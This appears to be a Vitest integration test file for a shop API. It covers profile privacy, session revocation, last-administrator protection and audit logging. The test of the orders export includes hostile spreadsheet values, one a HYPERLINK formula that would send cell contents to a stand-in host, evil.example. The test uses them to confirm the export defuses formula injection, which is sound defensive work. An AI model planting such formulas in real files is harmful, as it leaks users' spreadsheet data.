import type { FastifyInstance } from 'fastify';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedShop } from '../src/db/seed-shop.ts';
import { emulatorUser, signIn, testApp } from './support.ts';

type User = Awaited<ReturnType<typeof emulatorUser>>;

let app: FastifyInstance;
let admin: User;
let manager: User;
let alice: User;
let bob: User;

const call = (user: User, method: string, url: string, payload?: unknown) =>
  app.inject({ method: method as 'GET', url, headers: user.auth, payload: payload as never });
const auditCount = async () =>
  (await app.database.query<{ n: number }>('SELECT count(*)::int AS n FROM audit_log'))[0]?.n;

beforeAll(async () => {
  app = await testApp();
  await seedShop(app.database, { products: 5, orders: 5 });
  admin = await emulatorUser('admin');
  manager = await emulatorUser('manager');
  alice = await emulatorUser('alice');
  bob = await emulatorUser('bob');
  for (const user of [admin, manager, alice, bob]) await call(user, 'GET', '/api/me');
  await call(admin, 'PATCH', `/api/members/${manager.uid}`, { role: 'manager' });
});
afterAll(() => app.close());

const PRIVATE = ['phone', 'address', 'city', 'postCode', 'birthDate', 'emailVisible'];

describe('another member sees only a public profile', () => {
  it('hides contact and personal fields, and the e-mail while its owner hides it, from view, list and search', async () => {
    const saved = await call(alice, 'PATCH', '/api/me', {
      phone: '+33 6 12 34 56 78',
      address: '1 Rue de Rivoli',
      city: 'Paris',
      postCode: '75001',
      birthDate: '1990-04-02',
      title: 'Buyer',
      emailVisible: false,
    });
    expect(saved.statusCode).toBe(200);

    const seen = (await call(bob, 'GET', `/api/members/${alice.uid}`)).json();
    expect(seen).toMatchObject({ uid: alice.uid, title: 'Buyer', email: null });
    for (const key of PRIVATE) expect(seen, key).not.toHaveProperty(key);
    expect(JSON.stringify(seen)).not.toMatch(/Rivoli|75001|1990-04-02|12 34/);

    const listed = (await call(bob, 'GET', '/api/members?pageSize=100')).json();
    const row = listed.items.find((m: { uid: string }) => m.uid === alice.uid);
    expect(row).toMatchObject({ email: null });
    for (const key of PRIVATE) expect(row, key).not.toHaveProperty(key);
    expect(JSON.stringify(listed)).not.toContain(alice.email);
    // A hidden e-mail, a phone or a city cannot be found by searching either.
    for (const q of [alice.email, 'Rivoli', '75001', 'Paris']) {
      const found = (await call(bob, 'GET', `/api/members?q=${encodeURIComponent(q)}`)).json();
      expect(
        found.items.map((m: { uid: string }) => m.uid),
        q,
      ).not.toContain(alice.uid);
    }
    // The name still finds her.
    const byName = (await call(bob, 'GET', '/api/members?q=alice')).json();
    expect(byName.items.map((m: { uid: string }) => m.uid)).toContain(alice.uid);

    // She and an administrator see the whole profile, and the admin finds her by e-mail.
    for (const viewer of [alice, admin]) {
      const whole = (await call(viewer, 'GET', `/api/members/${alice.uid}`)).json();
      expect(whole).toMatchObject({ email: alice.email, phone: '+33 6 12 34 56 78', postCode: '75001' });
    }
    const adminSearch = (
      await call(admin, 'GET', `/api/members?q=${encodeURIComponent(alice.email)}`)
    ).json();
    expect(adminSearch.items.map((m: { uid: string }) => m.uid)).toEqual([alice.uid]);
    // A Manager runs the shop, not the people: public profiles only.
    const managerView = (await call(manager, 'GET', `/api/members/${alice.uid}`)).json();
    expect(managerView).not.toHaveProperty('phone');

    // Shown, the e-mail is seen and searchable; the rest stays private.
    await call(alice, 'PATCH', '/api/me', { emailVisible: true });
    const shown = (await call(bob, 'GET', `/api/members/${alice.uid}`)).json();
    expect(shown.email).toBe(alice.email);
    expect(shown).not.toHaveProperty('phone');
    const found = (await call(bob, 'GET', `/api/members?q=${encodeURIComponent(alice.email)}`)).json();
    expect(found.items.map((m: { uid: string }) => m.uid)).toEqual([alice.uid]);
  });

  it("shows each member their own settings and cards only; other people's are not addressable", async () => {
    const card = await call(alice, 'POST', '/api/me/cards', {
      holder: 'Alice',
      number: '4242 4242 4242 4242',
      expMonth: 12,
      expYear: new Date().getFullYear() + 1,
      cvv: '123',
    });
    expect(card.statusCode).toBe(201);
    const cards = (await call(bob, 'GET', '/api/me/cards')).json();
    expect(JSON.stringify(cards)).not.toContain(card.json().id);
    const stolen = await call(bob, 'DELETE', `/api/me/cards/${card.json().id}`);
    expect(stolen.statusCode).toBe(404);
    expect((await call(alice, 'GET', '/api/me/cards')).json().map((c: { id: string }) => c.id)).toContain(
      card.json().id,
    );
  });
});

describe('sessions and administrators', () => {
  it("ends a deleted member's sessions at once, saying why", async () => {
    const gone = await emulatorUser('gone');
    await call(gone, 'GET', '/api/me');
    expect((await call(admin, 'DELETE', `/api/members/${gone.uid}`)).statusCode).toBe(204);
    const refused = await call(gone, 'GET', '/api/me');
    expect(refused.statusCode).toBe(401);
    expect(refused.json()).toMatchObject({ code: 'unauthenticated', reason: 'revoked' });
    expect((await call(gone, 'PATCH', '/api/me', { title: 'Back' })).statusCode).toBe(401);
  });

  it('lets an administrator step down while another remains, never the last one, even racing', async () => {
    const second = await emulatorUser('second-admin');
    await call(second, 'GET', '/api/me');
    expect((await call(admin, 'PATCH', `/api/members/${second.uid}`, { role: 'admin' })).statusCode).toBe(
      200,
    );

    // Two administrators demote each other at the same moment: exactly one wins, one administrator remains.
    const [a, b] = await Promise.all([
      call(admin, 'PATCH', `/api/members/${second.uid}`, { role: 'member' }),
      call(second, 'PATCH', `/api/members/${admin.uid}`, { role: 'member' }),
    ]);
    expect([a.statusCode, b.statusCode].sort()).toEqual([200, 409]);
    const loser = a.statusCode === 409 ? a : b;
    expect(loser.json()).toMatchObject({ code: 'last_admin' });
    const admins = await app.database.query<{ uid: string }>(
      "SELECT uid FROM members WHERE role = 'admin' AND status = 'active' AND NOT demo",
    );
    expect(admins).toHaveLength(1);
    const remaining = admins[0]?.uid === admin.uid ? admin : second;

    // The one left can neither step down, nor block or delete themselves.
    for (const [method, body] of [
      ['PATCH', { role: 'manager' }],
      ['PATCH', { status: 'blocked' }],
      ['DELETE', undefined],
    ] as const) {
      const res = await call(remaining, method, `/api/members/${remaining.uid}`, body);
      expect(res.statusCode, `${method} ${JSON.stringify(body)}`).toBeGreaterThanOrEqual(400);
      expect(res.statusCode).toBeLessThan(500);
    }
    expect((await call(remaining, 'GET', '/api/me')).json()).toMatchObject({
      role: 'admin',
      status: 'active',
    });
    // Put things back for the other tests.
    if (remaining !== admin) {
      await call(second, 'PATCH', `/api/members/${admin.uid}`, { role: 'admin' });
    }
    admin = { ...admin, ...(await signIn(admin.email, app)) };
  });
});

describe('the orders export defuses spreadsheet formulas', () => {
  it('writes every customer name a spreadsheet would run as text, as the widget export does', async () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '=1+1\nsecond line',
    ];
    for (const [i, name] of hostile.entries()) {
      const [customer] = await app.database.query<{ id: string }>(
        'INSERT INTO customers (name, email) VALUES ($1, $2) RETURNING id::text',
        [name, `hostile${i}@example.com`],
      );
      await app.database.query(
        `INSERT INTO orders (customer_id, order_status, payment_status, first_product_name, item_count, sub_total, vat, total)
         VALUES ($1, 'ready', 'pending', $2, 1, 10, 1, 11)`,
        [customer?.id, name],
      );
    }
    const res = await call(manager, 'GET', '/api/orders/export.csv?q=hostile');
    expect(res.statusCode).toBe(200);
    const { data } = Papa.parse<string[]>(res.body.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    const [header, ...rows] = data;
    const customer = header?.indexOf('Customer') ?? -1;
    const product = header?.findIndex((h) => /product/i.test(h)) ?? -1;
    expect(customer).toBeGreaterThanOrEqual(0);
    expect(rows.map((r) => r[customer]).sort()).toEqual(hostile.map((name) => `'${name}`).sort());
    for (const row of rows) expect(row[product]?.startsWith("'"), row[product]).toBe(true);
    // Totals stay numbers.
    for (const row of rows) expect(row).toContain('11.00');
  });
});

describe('the audit log', () => {
  it('records a change in the same transaction: a refused or failed change leaves no entry', async () => {
    const [product] = (await call(manager, 'GET', '/api/products?pageSize=1')).json().items;
    const full = (await call(manager, 'GET', `/api/products/${product.id}`)).json();
    const body = { name: full.name, price: 12.5, category: full.category, version: full.version };
    const before = await auditCount();

    // Refused: a stale version (409), a bad price (400), a Member (403).
    expect(
      (await call(manager, 'PUT', `/api/products/${product.id}`, { ...body, version: 999 })).statusCode,
    ).toBe(409);
    expect(
      (await call(manager, 'PUT', `/api/products/${product.id}`, { ...body, price: -1 })).statusCode,
    ).toBe(400);
    expect((await call(bob, 'PUT', `/api/products/${product.id}`, body)).statusCode).toBe(403);
    expect(await auditCount()).toBe(before);

    // Failed while recording: the change itself is rolled back.
    await app.database.exec(`
      CREATE FUNCTION refuse_audit() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN RAISE EXCEPTION 'audit unavailable'; END $$;
      CREATE TRIGGER refuse_audit BEFORE INSERT ON audit_log FOR EACH ROW EXECUTE FUNCTION refuse_audit();`);
    try {
      const failed = await call(manager, 'PUT', `/api/products/${product.id}`, body);
      expect(failed.statusCode).toBe(500);
      expect(failed.body).not.toContain('audit unavailable');
      expect((await call(manager, 'GET', `/api/products/${product.id}`)).json()).toMatchObject({
        price: full.price,
        version: full.version,
      });
    } finally {
      await app.database.exec('DROP TRIGGER refuse_audit ON audit_log; DROP FUNCTION refuse_audit();');
    }

    // Done: one entry, with what changed.
    expect((await call(manager, 'PUT', `/api/products/${product.id}`, body)).statusCode).toBe(200);
    expect(await auditCount()).toBe((before ?? 0) + 1);
    const [entry] = (await call(admin, 'GET', '/api/audit?limit=1')).json().items;
    expect(entry).toMatchObject({
      action: 'product.update',
      actor: { uid: manager.uid, role: 'manager' },
      target: { type: 'product', id: String(product.id) },
      changes: { price: { from: full.price, to: 12.5 } },
    });
    // A member's own profile is theirs, not the workspace's: not audited.
    await call(bob, 'PATCH', '/api/me', { title: 'Quiet' });
    expect(await auditCount()).toBe((before ?? 0) + 1);
  });

  it('pages by keyset both ways, filters by person, action and day, and is for administrators only', async () => {
    for (let i = 0; i < 5; i++) {
      await call(manager, 'PUT', '/api/dashboards/target', { target: 1000 + i });
    }
    const page = (query: string) => call(admin, 'GET', `/api/audit?action=dashboard.target&${query}`);
    const first = (await page('limit=2')).json();
    expect(first.items.map((e: { changes: { target: { to: number } } }) => e.changes.target.to)).toEqual([
      1004, 1003,
    ]);
    expect(first.newer).toBeNull();
    const second = (await page(`limit=2&before=${first.older}`)).json();
    expect(second.items.map((e: { changes: { target: { to: number } } }) => e.changes.target.to)).toEqual([
      1002, 1001,
    ]);
    const third = (await page(`limit=2&before=${second.older}`)).json();
    expect(third.items).toHaveLength(1);
    expect(third.older).toBeNull();
    const back = (await page(`limit=2&after=${third.newer}`)).json();
    expect(back.items.map((e: { id: string }) => e.id)).toEqual(
      second.items.map((e: { id: string }) => e.id),
    );

    const today = new Date().toISOString().slice(0, 10);
    const byPerson = (
      await call(admin, 'GET', `/api/audit?actor=${manager.uid}&from=${today}&to=${today}`)
    ).json();
    expect(byPerson.items.length).toBeGreaterThanOrEqual(6);
    expect(byPerson.items.every((e: { actor: { uid: string } }) => e.actor.uid === manager.uid)).toBe(true);
    const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
    expect((await call(admin, 'GET', `/api/audit?to=${yesterday}`)).json().items).toEqual([]);

    const bad = await call(admin, 'GET', `/api/audit?from=yesterday&action=product.burn&limit=1000`);
    expect(bad.statusCode).toBe(400);
    expect(bad.json().fields).toMatchObject({
      from: { code: 'format' },
      action: { code: 'not_allowed' },
      limit: { code: 'too_large' },
    });
    const both = await call(admin, 'GET', `/api/audit?before=1&after=2`);
    expect(both.json()).toMatchObject({ code: 'invalid', fields: { after: { code: 'not_allowed' } } });

    for (const user of [manager, bob]) {
      for (const url of ['/api/audit', '/api/audit/export.csv']) {
        const res = await call(user, 'GET', url);
        expect(res.statusCode).toBe(403);
        expect(res.json()).toMatchObject({ code: 'forbidden', permission: 'audit.read' });
      }
    }
    const csv = await call(admin, 'GET', '/api/audit/export.csv?action=dashboard.target');
    expect(csv.headers['content-type']).toContain('text/csv');
    expect(csv.body.trim().split('\r\n')).toHaveLength(6);
  });
});
